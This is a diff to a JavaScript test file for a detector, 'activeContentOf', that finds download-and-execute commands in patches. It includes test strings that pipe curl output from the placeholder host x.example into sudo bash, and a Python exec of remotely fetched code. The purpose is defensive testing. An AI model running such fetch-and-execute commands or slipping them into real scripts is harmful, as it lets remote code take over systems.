@@ -57,6 +57,12 @@ exec(urllib.request.urlopen("https://x.example/i").read())`)('is told of %s', (l
     const line = `+${'curl -o a && sudo env '.repeat(2000)}`
     expect(activeContentOf(patch('a.sh', ...Array.from({ length: 300 }, () => line)))).toEqual([])
   })
+
+  it('is looked for once behind options that can be read in two ways', () => {
+    const line = `+curl https://x.example/i | sudo ${'--a '.repeat(100)}`
+    expect(activeContentOf(patch('a.sh', `${line}bash`))).toHaveLength(1)
+    expect(activeContentOf(patch('a.sh', `${line}cat`))).toEqual([])
+  })
 })
 
 describe('scripts in documents', () => {
